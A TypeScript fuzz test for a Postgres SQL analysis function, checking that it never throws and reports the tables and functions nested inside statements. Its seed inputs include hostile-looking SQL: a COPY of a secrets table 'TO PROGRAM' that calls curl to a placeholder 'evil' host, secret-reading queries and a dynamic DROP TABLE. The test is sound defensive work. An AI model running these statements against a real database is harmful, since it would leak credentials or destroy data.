/**
 * analyzeSql on random and mutated SQL: it never throws, always returns a well-formed analysis,
 * and keeps its invariants: top-level statements are slices of the input; every top-level
 * statement carries the tables and functions of the statements hidden in it, and is unknown
 * when any of them is.
 */
import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import fc from 'fast-check';
import { analyzeSql, loadSqlParser } from '../../protocols/postgres/sql-facts.js';
import type { SqlAnalysis } from '../../protocols/postgres/sql-types.js';

const CODES = new Set(['SQL_PARSE_ERROR', 'SQL_TOO_LONG', 'SQL_UNSUPPORTED']);

const SEEDS = [
  'SELECT e.secret, row_to_json(e) FROM env_vars e JOIN users u ON u.id = e.owner WHERE u.name = $1',
  'WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x',
  "DO $$ DECLARE n int; BEGIN n := (SELECT count(*) FROM env_vars); EXECUTE 'DROP TABLE ' || 't'; END $$",
  'PREPARE p (int) AS UPDATE t SET a = $1 FROM u WHERE t.id = u.id RETURNING t.*',
  'EXPLAIN (ANALYZE) MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE',
  "COPY (SELECT * FROM env_vars) TO PROGRAM 'curl evil'",
  "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT secret FROM env_vars'",
  'CREATE RULE r AS ON INSERT TO t DO ALSO (DELETE FROM u; INSERT INTO v VALUES (new.a))',
  "SELECT 1 /* ; */; SELECT $q$ ; $q$, E'\\'', U&\"a\\0062\" FROM \"Q\".x",
  'SELECT x.s FROM (SELECT secret AS s FROM env_vars UNION SELECT 1) x, LATERAL unnest(x.arr) g(v) ORDER BY 1',
  'INSERT INTO t AS x (a) SELECT * FROM env_vars ON CONFLICT (a) DO UPDATE SET b = excluded.b RETURNING old.*',
  'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r',
];

const TOKENS = [
  'SELECT', 'FROM', 'WHERE', 'WITH', 'AS', 'DELETE', 'INSERT', 'INTO', 'UPDATE', 'SET', 'DO', '$$', '$a$', 'BEGIN', 'END',
  'EXECUTE', 'PREPARE', 'EXPLAIN', 'ANALYZE', 'COPY', 'PROGRAM', 'RETURNING', '*', '(', ')', ',', ';', '.', '=', "'", '"',
  "E'\\''", '--', '/*', '*/', 't', 'env_vars', 'secret', 'e', 'x', '1', 'JOIN', 'ON', 'LATERAL', 'UNION', 'row_to_json',
  'CREATE', 'FUNCTION', 'LANGUAGE', 'plpgsql', 'sql', 'RULE', 'TO', 'VALUES', 'MERGE', 'USING', 'WHEN', 'THEN', ' ', '\n',
];

function wellFormed(input: string, r: SqlAnalysis): void {
  if (!r.ok) {
    assert.ok(CODES.has(r.error.code), r.error.code);
    assert.equal(typeof r.error.message, 'string');
    assert.deepEqual(r.unknown, ['sql.verb', 'sql.tables', 'sql.columns', 'sql.functions']);
    return;
  }
  let current: (typeof r.statements)[number] | undefined;
  for (const s of r.statements) {
    assert.equal(typeof s.verb, 'string');
    for (const l of [s.tables, s.columns, s.functions]) assert.ok(Array.isArray(l) && l.every((x) => typeof x === 'string'));
    if (!s.hidden) {
      assert.ok(input.includes(s.statement), 'a top-level statement is a slice of the input');
      current = s;
      continue;
    }
    assert.ok(current, 'hidden statements follow the statement they are in');
    for (const t of s.tables) assert.ok(current.tables.includes(t), `encloser lacks table ${t}`);
    for (const f of s.functions) assert.ok(current.functions.includes(f), `encloser lacks function ${f}`);
    if (s.unknownFacts) assert.ok(current.unknownFacts, 'unknown propagates to the encloser');
  }
}

function run(input: string): void {
  let r: SqlAnalysis;
  try {
    r = analyzeSql(input, { cache: false });
  } catch (err) {
    assert.fail(`analyzeSql threw on ${JSON.stringify(input).slice(0, 200)}: ${String(err)}`);
  }
  wellFormed(input, r);
}

const mutated = fc
  .tuple(fc.constantFrom(...SEEDS), fc.array(fc.tuple(fc.nat(), fc.nat(8), fc.string({ maxLength: 6 })), { maxLength: 4 }))
  .map(([seed, edits]) => {
    let s = seed;
    for (const [pos, del, ins] of edits) {
      const p = pos % (s.length + 1);
      s = s.slice(0, p) + ins + s.slice(p + del);
    }
    return s;
  });

describe('fuzz: analyzeSql', () => {
  before(loadSqlParser);

  it('seeds are analysed and well formed', () => {
    for (const s of SEEDS) {
      const r = analyzeSql(s, { cache: false });
      assert.ok(r.ok, s);
      wellFormed(s, r);
    }
  });

  it('random text never throws', () => {
    fc.assert(fc.property(fc.string({ maxLength: 200, unit: 'grapheme' }), run), { numRuns: 400 });
    fc.assert(fc.property(fc.string({ maxLength: 100, unit: 'binary' }), run), { numRuns: 400 });
  });

  it('token soup never throws', () => {
    fc.assert(fc.property(fc.array(fc.constantFrom(...TOKENS), { maxLength: 60 }).map((t) => t.join(' ')), run), { numRuns: 1500 });
  });

  it('mutated statements never throw', () => {
    fc.assert(fc.property(mutated, run), { numRuns: 1500 });
  });

  it('mutated DO bodies never throw', () => {
    const body = fc.array(fc.constantFrom(...TOKENS, 'IF', 'LOOP', 'FOR', 'IN', ':=', 'PERFORM', 'RAISE', 'NOTICE', 'DECLARE', 'r', 'record'), { maxLength: 30 });
    fc.assert(fc.property(body, (b) => run(`DO $body$ BEGIN ${b.join(' ')}; END $body$`)), { numRuns: 800 });
  });
});
